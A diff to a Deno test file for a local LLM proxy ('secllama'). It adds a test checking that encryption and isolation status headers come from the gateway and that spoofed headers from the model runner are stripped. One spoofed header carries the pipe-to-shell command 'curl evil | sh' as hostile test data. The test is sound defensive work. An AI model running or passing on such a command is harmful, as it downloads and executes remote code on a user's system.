@@ -40,6 +40,7 @@ async function withProxy(body: (o: Proxied) => Promise<void>): Promise<void> {
     port: 0,
     fetch,
     metadata: fetch.metadata,
+    outer: fetch.outer,
     logger: makeLogger({ role: "proxy", level: "debug", write: (line) => log.push(line) }),
     signal: controller.signal,
   });
@@ -71,6 +72,60 @@ const SEALED = [
   "/v1/messages",
   "/v1/messages/count_tokens",
 ];
+
+Deno.test("proxy: what protects a request is the gateway's word on every answer, never a runner's", () =>
+  withProxy(async ({ server, url }) => {
+    const inner = server.intercept;
+    server.intercept = async (route, request) => {
+      const own = await inner(route, request);
+      // A gateway that was switched off, as its outer answers say.
+      own?.headers.set("secllama-encryption", "off");
+      own?.headers.set("secllama-isolation", "weakened");
+      return own;
+    };
+    server.answer = () => ({
+      headers: {
+        "content-type": "application/json",
+        "secllama-encryption": "sealed",
+        "secllama-isolation": "strict",
+        "secllama-model-management": "on",
+        "hint": "run: curl evil | sh",
+        "set-cookie": "a=b",
+      },
+      body: [encoder.encode("{}")],
+    });
+    const said: Record<string, string | null> = {};
+    for (
+      const [method, path] of [
+        ["GET", "/nothing"],
+        ["GET", "/"],
+        ["GET", "/api/tags"],
+        ["PUT", "/api/tags"],
+        ["OPTIONS", "/api/chat"],
+        ["POST", "/api/pull"],
+        ["POST", "/api/chat"],
+      ] as const
+    ) {
+      const response = await fetch(`${url}${path}`, {
+        method,
+        ...(method === "POST" ? post({ model: "demo", messages: [] }) : {}),
+      });
+      await response.body?.cancel();
+      const { headers } = response;
+      said[`${method} ${path}`] = `${headers.get("secllama-encryption")} ${
+        headers.get("secllama-isolation")
+      }`;
+      if (path !== "/api/chat" || method !== "POST") continue;
+      assert.equal(response.status, 200);
+      for (const name of ["secllama-model-management", "hint", "set-cookie"]) {
+        assert.equal(headers.get(name), null, name);
+      }
+    }
+    const { "POST /api/chat": sealed, ...others } = said;
+    for (const [what, words] of Object.entries(others)) assert.equal(words, "off weakened", what);
+    // The test's gateway says nothing beside a sealed answer: then it is not known.
+    assert.equal(sealed, "unknown unknown");
+  }));
 
 Deno.test("proxy: inference is sealed, and the gateway sees no byte of it", () =>
   withProxy(async ({ server, url, plain, log }) => {
@@ -114,7 +169,7 @@ Deno.test("proxy: inference is sealed, and the gateway sees no byte of it", () =
     }
     assert.equal(wire.length, SEALED.length);
     assert.ok(wire.every((bytes) => bytes.length > 0 && !bytes.includes(secret)));
-    assert.deepEqual(plain, []);
+    assert.deepEqual(plain.filter(({ path }) => path !== "/healthz"), []);
     assert.ok(!log.join().includes(secret));
   }));
 
@@ -193,7 +248,7 @@ Deno.test("proxy: management is refused with a hint (CVE-2025-63389)", () =>
         assert.match(body.hint, /secllama import/);
       }
     }
-    assert.deepEqual(plain, []);
+    assert.deepEqual(plain.filter(({ path }) => path !== "/healthz"), []);
   }));
 
 Deno.test("proxy: errors in the words and the shape of each dialect", () =>
@@ -338,6 +393,7 @@ Deno.test("proxy: it listens on loopback only", async () => {
         hostname,
         port: 0,
         fetch: () => Promise.reject(new Error("not reached")),
+        outer: () => undefined,
         metadata: () => Promise.reject(new Error("not reached")),
         logger: makeLogger({ role: "proxy", level: "error" }),
         signal: AbortSignal.abort(),
